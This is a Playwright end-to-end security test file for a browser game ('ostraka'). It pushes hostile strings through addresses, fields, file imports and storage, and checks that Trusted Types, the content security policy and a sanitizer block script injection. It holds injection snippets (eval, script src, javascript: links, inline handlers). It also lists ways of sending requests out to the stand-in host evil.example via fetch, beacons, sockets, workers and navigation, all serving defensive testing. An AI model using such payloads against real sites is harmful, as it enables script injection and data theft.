"""Hostile texts through every entrance of the real page: nothing of them runs, becomes an element, or asks anybody."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Page

from build import ROOT
from tests.e2e.browser import settle
from tests.e2e.elsewhere import Elsewhere
from tests.e2e.visitor import READY, Visitor, fragment, played
from tests.web.hostile import EVERY, MONSTERS, files, fragments, links
from web.app.index_page import POLICY

FOREIGN = """
    iframe object embed form style link meta base foreignObject animate set image math video audio plaintext marquee
    dialog [srcdoc] [src^="//"] [href^="//"] [href*="javascript:"i] [src*="evil"i] [href*="evil"i] [style*="evil"i]
"""
ODD_ELEMENTS = f"""() => [...document.querySelectorAll("#app *")].filter((node) =>
    node.matches("script, {", ".join(FOREIGN.split()).replace('"', "'")}")
    || node.getAttributeNames().some((name) => name.startsWith("on"))).map((node) => node.outerHTML.slice(0, 200))"""

PAUSE = "const moment = () => new Promise((done) => setTimeout(done, 0));"


@pytest.fixture
def page(resident: Callable[..., Visitor]) -> Iterator[Page]:
    """A page under watch."""
    visitor = resident("watched")
    yield visitor.page
    harmless(visitor.page)


def harmless(page: Page) -> None:
    """Once all that was done has been answered."""
    page.wait_for_selector(READY)
    settle(page)
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("window.broken") == []
    assert page.evaluate("({}).hacked") is None
    assert page.evaluate(ODD_ELEMENTS) == []
    assert page.evaluate("location.pathname") == "/"


def plain(text: str) -> str:
    """As it can be sent to a browser at all."""
    return text.encode("utf-8", "replace").decode()


def saved(page: Page) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(
        page.evaluate("localStorage.getItem(Object.keys(localStorage).find((key) => key.includes('/game/')))")
    )
    return found


PARTS = 4
"""Many texts are many frames to draw: no test of them is a long one."""
in_parts = pytest.mark.parametrize("part", range(PARTS))


@pytest.mark.sampled(4)
@in_parts
def test_in_addresses(page: Page, part: int) -> None:
    match = played(3, 20)
    link = match.to_link()
    whole = [plain(f) for i, text in enumerate(EVERY) for f in fragments(link, text)[i % 11 :: 11]]
    whole += [f"p={wrong}&s=1" for wrong in links(link).values() if len(wrong) < 50_000]
    page.evaluate(
        f"""async (all) => {{ {PAUSE}
            for (const one of all) {{ location.hash = one; await moment(); await moment(); }}
        }}""",
        whole[part::PARTS],
    )
    page.evaluate("location.hash = '/'")
    page.wait_for_selector(".shelf")


@pytest.mark.sampled(4)
@in_parts
def test_as_names_on_the_table(page: Page, part: int) -> None:
    match = played(5, 40)
    for first in range(5 * part, len(EVERY), 5 * PARTS):
        names = [plain(text) for text in (*EVERY[first : first + 5], *EVERY[:4])[:5]]
        page.evaluate("(to) => { location.hash = to }", fragment(match, 0, [(name, "person") for name in names]))
        page.click("#arrive")
        page.wait_for_selector(".play .seats")
        assert page.locator(".seat").count() == 5
        assert page.evaluate(ODD_ELEMENTS) == []
        page.evaluate("localStorage.clear()")


def test_in_fields(page: Page) -> None:
    page.evaluate("location.hash = '/new/imperium'")
    page.wait_for_selector("#begin")
    page.evaluate(
        f"""async (all) => {{ {PAUSE}
            for (const [i, one] of all.entries()) for (const id of [`name-${{i % 4}}`, "seed"]) {{
                const field = document.getElementById(id);
                field.value = one;
                field.dispatchEvent(new Event("change", {{ bubbles: true }}));
                await moment();
            }}
        }}""",
        list(map(plain, EVERY)),
    )
    harmless(page)
    page.click("#begin")
    page.wait_for_selector(".play .seats")
    page.evaluate("location.hash = '/link'")
    page.wait_for_selector("#paste")
    page.evaluate(
        f"""async (all) => {{ {PAUSE}
            for (const one of all) {{
                const field = document.getElementById("paste");
                field.value = one.replaceAll("\\n", "-");
                document.getElementById("open-link").click();
                await moment();
            }}
        }}""",
        [*map(plain, EVERY), *(text for text in links(played(2).to_link()).values() if len(text) < 9000)],
    )
    assert page.locator("#dialog .why").count() == 1


@pytest.mark.sampled(4)
@in_parts
def test_in_files(page: Page, part: int) -> None:
    page.click('[data-do^="play-now"]')
    page.wait_for_selector(".play .seats")
    save = saved(page)
    page.evaluate("location.hash = '/'")
    page.wait_for_selector(".shelf")
    every = [(plain(text), content) for i, text in enumerate(EVERY) for _, content in files(save, text, i, 900)]
    every += [(kind, plain(content)) for kind, content in MONSTERS.items()]
    every = every[part::PARTS]
    for first in range(0, len(every), 100):
        page.evaluate(
            f"""async (all) => {{ {PAUSE}
                for ([window.nextName, window.nextFile] of all) {{
                    const before = document.getElementById("notices").innerText;
                    document.querySelector('[data-do="import"]').click();
                    for (let i = 0; i < 4; i++) await moment();
                    for (const key of Object.keys(localStorage)) localStorage.removeItem(key);
                }}
            }}""",
            every[first : first + 100],
        )
        settle(page)
        assert page.inner_text("#notices")
        assert page.evaluate(ODD_ELEMENTS) == []


@pytest.mark.sampled(4)
@in_parts
def test_in_storage(page: Page, part: int) -> None:
    page.click('[data-do^="play-now"]')
    page.wait_for_selector(".play .seats")
    save = saved(page)
    for first in range(30 * part, len(EVERY), 30 * PARTS):
        stored: dict[str, str] = {}
        for i, text in enumerate(map(plain, EVERY[first : first + 30])):
            id = f"a{i}"
            stored[f"ostraka/1/game/{text}"] = text
            stored[f"ostraka/1/game/{id}"] = json.dumps(
                {**save, "id": id, "name": text[:60], "seats": [{**seat, "name": text[:24]} for seat in save["seats"]]}
            )
            stored[f"ostraka/1/game/b{id}"] = json.dumps({**save, "id": f"b{id}", "game": text, "draft": [text]})
            stored["ostraka/1/settings"] = json.dumps({"language": text, "theme": text, "names": [text], "pace": text})
        page.evaluate(
            "(all) => { localStorage.clear(); for (const [key, text] of all) localStorage.setItem(key, text); }",
            list(stored.items()),
        )
        page.evaluate("location.hash = '/'")
        page.evaluate("location.hash = '/game/a0'")
        page.wait_for_selector(".play .seats")
        page.evaluate("location.hash = '/'")
        page.wait_for_selector(".sv")
        assert page.evaluate(ODD_ELEMENTS) == []
        assert page.evaluate("Object.keys(localStorage).length") >= len(stored)
    page.reload()
    page.wait_for_selector(READY)
    harmless(page)
    page.evaluate("localStorage.clear()")
    page.reload()
    page.wait_for_selector(READY)


# what keeps it so ----------------------------------------------------------------


ATTEMPTS = """
    document.body.innerHTML = "<b>x</b>"
    document.body.insertAdjacentHTML("beforeend", "<b>x</b>")
    new DOMParser().parseFromString("<b>x</b>", "text/html")
    document.createElement("iframe").srcdoc = "<b>x</b>"
    document.createElement("script").text = "hacked = 1"
    document.createElement("script").src = "https://evil.example/x.js"
    new Worker("data:text/javascript,0")
    Function("hacked = 1")()
    eval("hacked = 1")
    setTimeout("hacked = 1")
    trustedTypes.createPolicy("mine", {})
    trustedTypes.createPolicy("ostraka", {})
"""


@pytest.mark.parametrize("attempt", ATTEMPTS.strip().splitlines())
def test_text_becomes_nothing_else_elsewhere(desk: Visitor, attempt: str) -> None:
    """Even for a script that is in the page already. (What Playwright evaluates may do more than the page's own.)"""
    refused = desk.page.evaluate(
        f"""() => new Promise((done) => setTimeout(() => {{
            try {{ {attempt.strip()}; done(""); }} catch (refusal) {{ done(`${{refusal}}`); }}
        }}))"""
    )
    assert "Trusted Type" in refused or "This document requires" in refused or "Policy" in refused, refused
    assert desk.page.evaluate("window.hacked") is None
    desk.troubles.clear()


def test_what_was_not_escaped_is_left_out(visitors: Callable[..., Visitor]) -> None:
    """On an empty page with the policy of ours: the client holds the module in its one script."""
    visitor = visitors()
    code, policy = (ROOT / "web/client/sanitize.js").read_text("utf-8"), {"Content-Security-Policy": POLICY}
    visitor.context.route("**/sanitize.js", lambda route: route.fulfill(content_type="text/javascript", body=code))
    visitor.context.route(
        "**/empty", lambda route: route.fulfill(content_type="text/html", body="<!doctype html><p>", headers=policy)
    )
    visitor.page.goto(f"{visitor.origin}/empty")
    left = visitor.page.evaluate(
        """async () => {
            const { elements } = await import("/sanitize.js");
            const div = document.createElement("div");
            div.append(elements(`<p onclick="hacked=1" id="a"><b>x</b><script>hacked=1</script>
                <img src="//evil.example/x"><iframe srcdoc="x"></iframe>
                <a href=" javascript:hacked=1">y</a><a href="#/rules/x">z</a>
                <svg><use href="#check"/><use href="https://evil.example/#x"/><foreignObject><i>n</i></foreignObject>
                <animate attributeName="x"/></svg><a href="covers/x.svg">c</a></p>`));
            return div.innerHTML.replace(/\\s+/g, " ");
        }"""
    )
    assert left == (
        '<p id="a"><b>x</b> <img> <a>y</a><a href="#/rules/x">z</a> <svg><use href="#check"></use><use></use> </svg>'
        '<a href="covers/x.svg">c</a></p>'
    )
    told = [trouble for trouble in visitor.troubles if "left out" in trouble]
    assert len(told) == 8
    visitor.troubles[:] = [trouble for trouble in visitor.troubles if trouble not in told and HANDLER not in trouble]


HANDLER = "Executing inline event handler violates"
"""The policy sees it too, and earlier."""


WAYS_OUT = {
    "fetch": "fetch('http://evil.example/1').catch(() => 0)",
    "image": "new Image().src = 'http://evil.example/2'",
    "socket": "new WebSocket('ws://evil.example/3')",
    "beacon": "navigator.sendBeacon('http://evil.example/4')",
    "font": "new FontFace('x', 'url(http://evil.example/5)').load().catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://evil.example/6').catch(() => 0)\"])))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://evil.example/7'}))",
    "service worker": "navigator.serviceWorker.register('/out.js')",
    "navigation": "location.href = 'http://evil.example/9'",
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_every_way_out_is_noticed(visitors: Callable[..., Visitor], world: Elsewhere, way: str) -> None:
    """On a page without a policy, so that the tests' own watch is tested."""
    visitor = visitors(service_workers="allow")
    visitor.context.route("**/out.js", lambda route: route.fulfill(content_type="text/javascript", body=SERVICE_WORKER))
    visitor.context.route("**/empty", lambda route: route.fulfill(content_type="text/html", body="<p>"))
    visitor.page.goto(f"{visitor.origin}/empty")
    visitor.page.evaluate(f"() => {{ {WAYS_OUT[way]} }}")
    for _ in range(1000):
        if world.asked:
            break
        visitor.page.wait_for_timeout(10)
    visitor.close()
    assert any("evil.example" in line for line in world.take())
    visitor.troubles.clear()


SERVICE_WORKER = "fetch('http://evil.example/10').catch(() => 0)"
